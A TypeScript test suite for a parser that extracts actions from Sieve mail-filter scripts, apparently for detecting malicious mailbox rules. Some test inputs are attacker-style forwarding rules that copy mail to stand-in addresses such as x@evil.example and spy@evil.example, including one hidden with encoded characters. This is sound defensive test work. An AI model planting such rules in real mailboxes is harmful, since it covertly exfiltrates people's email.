import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { SIEVE_MAX_ACTIONS, SIEVE_MAX_DEPTH, extractSieveActions } from './sieve-script-actions.js';
import { SHARED_SKIP_REASON, sharedDir } from '../../../test/helpers/paths.js';

const labScript = (dir: string, name: string): string | null => (sharedDir === null ? null : join(sharedDir, 'corpus', dir, name));

test('lab script: redirect :copy to the attacker, require copy', { skip: sharedDir === null ? SHARED_SKIP_REASON : false }, () => {
  const p = labScript('lab', 'sieve-forward-rule.sieve')!;
  const truth = JSON.parse(readFileSync(p.replace(/\.sieve$/, '.truth.json'), 'utf8'));
  const r = extractSieveActions(readFileSync(p));
  assert.deepEqual(r.requires, ['copy']);
  assert.deepEqual(r.issues, []);
  assert.equal(r.actions.length, 1);
  const a = r.actions[0];
  assert.equal(a.action, 'redirect');
  assert.deepEqual(a.targets, [truth.script.redirect_target]);
  assert.equal(a.copy, true);
  assert.equal(a.condition, null);
  assert.equal(a.line, 3, 'after the require line and the comment');
});

test('roundcube script (CRLF, tab, bracket comment-free rule header): redirect under "if true"', { skip: sharedDir === null ? SHARED_SKIP_REASON : false }, () => {
  const p = labScript('lab-webmail', 'webmail-forward-rule.sieve')!;
  if (!existsSync(p)) return;
  const truth = JSON.parse(readFileSync(p.replace(/\.sieve$/, '.truth.json'), 'utf8'));
  const r = extractSieveActions(readFileSync(p));
  assert.deepEqual(r.actions, [{ action: 'redirect', line: 4, condition: 'true', targets: [truth.script.redirect_target], copy: truth.script.copy }]);
});

test('every action kind with its fields, conditions of if/elsif/else and nesting', () => {
  const script = [
    'require ["fileinto", "reject", "vacation", "copy", "imap4flags", "mailbox", "editheader", "enotify", "include"];',
    '/* multi',
    '   line comment */',
    'if header :contains "subject" "invoice" {',
    '  fileinto :copy :create "Invoices";',
    '  if address :is "from" "boss@corp.example" { redirect ["x@evil.example", "y@evil.example"]; }',
    '} elsif exists "X-Spam" {',
    '  discard; stop;',
    '} else {',
    '  vacation :days 3 :subject "Out" :from "me@corp.example" :addresses ["me@corp.example", "alias@corp.example"] text:',
    'Away until Monday.',
    '..leading dot',
    '.',
    ';',
    '}',
    'reject "go away"; ereject "no";',
    'notify :importance "1" :message "new mail" "mailto:spy@evil.example";',
    'addheader :last "X-Seen" "1"; deleteheader :index 1 "Received" ["a", "b"];',
    'setflag "\\\\Seen"; addflag "var" ["\\\\Flagged", "$x"]; keep :flags "\\\\Seen";',
    'include :global "shared";',
  ].join('\n');
  const r = extractSieveActions(script);
  assert.deepEqual(r.issues, []);
  assert.equal(r.requires.length, 9);
  const by = (n: string) => r.actions.filter((a) => a.action === n);
  assert.deepEqual(by('fileinto')[0], { action: 'fileinto', line: 5, condition: 'header :contains "subject" "invoice"', folder: 'Invoices', copy: true, create: true });
  assert.deepEqual(by('redirect')[0].targets, ['x@evil.example', 'y@evil.example']);
  assert.equal(by('redirect')[0].condition, 'header :contains "subject" "invoice" and address :is "from" "boss@corp.example"');
  assert.equal(by('discard')[0].condition, 'not (header :contains "subject" "invoice") and exists "X-Spam"');
  assert.equal(by('stop')[0].line, 8);
  const v = by('vacation')[0];
  assert.equal(v.condition, 'not (header :contains "subject" "invoice") and not (exists "X-Spam")');
  assert.equal(v.days, 3);
  assert.equal(v.subject, 'Out');
  assert.equal(v.from, 'me@corp.example');
  assert.deepEqual(v.addresses, ['me@corp.example', 'alias@corp.example']);
  assert.equal(v.reason, 'Away until Monday.\n.leading dot\n');
  assert.equal(by('reject')[0].reason, 'go away');
  assert.equal(by('reject')[0].line, 16);
  assert.equal(by('ereject')[0].reason, 'no');
  assert.equal(by('notify')[0].method, 'mailto:spy@evil.example');
  assert.equal(by('notify')[0].reason, 'new mail');
  assert.equal(by('notify')[0].importance, '1');
  assert.deepEqual(by('addheader')[0], { action: 'addheader', line: 18, condition: null, header: 'X-Seen', value: '1', last: true });
  assert.equal(by('deleteheader')[0].index, 1);
  assert.deepEqual(by('deleteheader')[0].values, ['a', 'b']);
  assert.deepEqual(by('setflag')[0].flags, ['\\Seen']);
  assert.equal(by('addflag')[0].variable, 'var');
  assert.deepEqual(by('keep')[0].flags, ['\\Seen']);
  assert.equal(by('include')[0].folder, 'shared');
  assert.equal(by('include')[0].location, 'global');
});

test('encoded-character is decoded only when required (RFC 5228 §2.4.2.4)', () => {
  const enc = 'redirect "attacker${hex:40}evil.example";';
  assert.deepEqual(extractSieveActions(`require "encoded-character"; ${enc}`).actions[0].targets, ['attacker@evil.example']);
  assert.deepEqual(extractSieveActions(enc).actions[0].targets, ['attacker${hex:40}evil.example']);
});

test('broken scripts: issues recorded, later actions still found', () => {
  const r = extractSieveActions('if header :is "a" { fileinto "x" \n redirect "a@b"; } @@@ bogus ; redirect "c@d";\nif { keep; }');
  assert.ok(r.issues.length > 0);
  assert.ok(r.actions.some((a) => a.action === 'redirect' && a.targets?.[0] === 'c@d'), JSON.stringify(r));
  const u = extractSieveActions('redirect "unterminated');
  assert.ok(u.issues.some((i) => i.includes('unterminated')));
});

test('bounds: deep nesting and many actions do not blow the stack or the output', () => {
  const deep = 'if true {'.repeat(5000) + 'redirect "deep@x";' + '}'.repeat(5000) + ' redirect "top@x";';
  const r = extractSieveActions(deep);
  assert.ok(r.issues.some((i) => i.includes(String(SIEVE_MAX_DEPTH))));
  assert.deepEqual(r.actions.map((a) => a.targets?.[0]), ['top@x']);
  const nots = extractSieveActions('if ' + 'not '.repeat(10000) + 'true { keep; }');
  assert.ok(nots.issues.length > 0);
  const many = extractSieveActions('keep;'.repeat(SIEVE_MAX_ACTIONS + 5));
  assert.equal(many.actions.length, SIEVE_MAX_ACTIONS);
  assert.equal(many.actions_dropped, 5);
});

test('never throws on arbitrary input', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string({ maxLength: 300 }), fc.uint8Array({ maxLength: 300 }).map((b) => Buffer.from(b).toString('latin1')), fc.array(fc.constantFrom('if', 'true', '{', '}', '(', ')', '[', ']', ',', ';', '"a"', ':copy', 'text:\n', '.\n', 'redirect', '#c\n', '/*', '*/', '1K', 'anyof', 'not'), { maxLength: 60 }).map((a) => a.join(' '))), (s) => {
      const r = extractSieveActions(s);
      assert.ok(Array.isArray(r.actions) && Array.isArray(r.issues));
    }),
    { numRuns: 500 },
  );
});
